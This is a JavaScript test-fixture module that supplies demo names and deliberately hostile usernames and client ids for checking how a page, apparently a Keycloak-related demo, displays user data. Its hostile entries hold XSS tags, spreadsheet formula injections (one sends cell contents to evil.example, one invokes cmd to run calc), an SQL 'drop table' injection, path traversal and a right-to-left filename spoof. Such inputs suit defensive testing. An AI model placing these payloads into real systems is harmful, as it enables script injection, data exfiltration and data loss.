/** Names of the demo's people: common ones, and those that try to break a page that shows them. */

export const FIRST_NAMES = (
  'Ada Adam Aisha Alejandro Amélie Amina Ana Anders Anton Ayşe Beatriz Björn Camille Carlos Chiara ' +
  'Chloé Daniel David Elena Elif Emma Erik Fatima Felix Finn Freya Gabriel Giulia Grace Hana Hannah ' +
  'Hassan Hélène Ingrid Isla Ivan Jakub James Jan João Jonas José Julia Kaito Katarzyna Kofi Lara ' +
  'Laura Leah Leon Liam Lina Linh Louis Lucía Lukas Malik Mara Marco Maria Marta Mateo Maya Mei ' +
  'Mia Mohammed Moritz Nadia Nina Noah Nora Olga Oliver Omar Oscar Paul Petra Priya Rafael Rosa ' +
  'Ruben Samir Sara Sofia Søren Stefan Sven Tariq Theo Thomas Tomáš Valentina Vera Viktor Wei Yara ' +
  'Yusuf Zara Zofia'
).split(' ');

export const LAST_NAMES = (
  'Abebe Almeida Andersen Bauer Becker Bianchi Brandt Brown Campbell Castillo Chen Costa Cohen ' +
  'Dąbrowski Davies Demir Diallo Dubois Eriksson Evans Fernández Ferrari Fischer Fontaine Fuchs ' +
  'García Gomes Gupta Haddad Hansen Herrmann Hoffmann Horvat Hughes Ibrahim Ito Jansen Jensen ' +
  'Johansson Jones Kaplan Kaur Keller Khan Kim Koch Kowalski Kovács Krause Kumar Lange Larsen ' +
  'Leclerc Lefèvre Lehmann Lewis Lindberg López Maier Martin Martínez Mensah Meyer Moreau Morgan ' +
  'Müller Nakamura Neumann Nguyen Nielsen Novák O’Brien Okafor Olsen Öztürk Park Patel Pereira ' +
  'Petrov Pham Popescu Ramos Richter Roberts Romano Rossi Roux Sánchez Santos Sato Schäfer Schmidt ' +
  'Schneider Schulz Silva Singh Smith Sørensen Taylor Tremblay Vogel Walker Wagner Weber Weiss ' +
  'Williams Wilson Wood Yılmaz Zhang Zimmermann'
).split(' ');

/** The text-direction override that makes what follows read backwards. */
const RIGHT_TO_LEFT_OVERRIDE = '\u202e';

/**
 * User names as a directory outside Keycloak may hand them on; Keycloak itself refuses most.
 * @type {ReadonlyArray<{username: string, firstName: string | null, lastName: string | null}>}
 */
export const HOSTILE_USERS = [
  {
    username: '<img src=x onerror=globalthis.__xss=1>',
    firstName: '<script>globalThis.__xss=1</script>',
    lastName: '"><svg onload=globalThis.__xss=1>',
  },
  {
    username: '=hyperlink("http://evil.example/?"&a1,"click")',
    firstName: '=1+1',
    lastName: "@SUM(1+9)*cmd|' /C calc'!A0",
  },
  { username: `annual${RIGHT_TO_LEFT_OVERRIDE}fdp.exe`, firstName: null, lastName: null },
  { username: 'a'.repeat(255), firstName: 'A'.repeat(255), lastName: null },
  { username: "robert'); drop table user_entity;--", firstName: 'Robert', lastName: 'Tables' },
  { username: '../../realms/master', firstName: 'Path', lastName: 'Traversal' },
  { username: 'zero\u200bwidth\u200djoiner', firstName: 'Zero', lastName: 'Width' },
  { username: 'مستخدم-تجريبي', firstName: 'ليلى', lastName: 'حداد' },
  { username: '👩‍👩‍👧‍👦 family', firstName: '', lastName: '' },
];

/** Client ids that try the same; Keycloak takes every one of them. */
export const HOSTILE_CLIENT_IDS = [
  '<img src=x onerror=globalThis.__xss=1>',
  '=HYPERLINK("http://evil.example/","price list")',
  `price${RIGHT_TO_LEFT_OVERRIDE}tsil`,
  `../../realms/${'very-long-client-id-'.repeat(12)}x`.padEnd(255, 'x'),
];
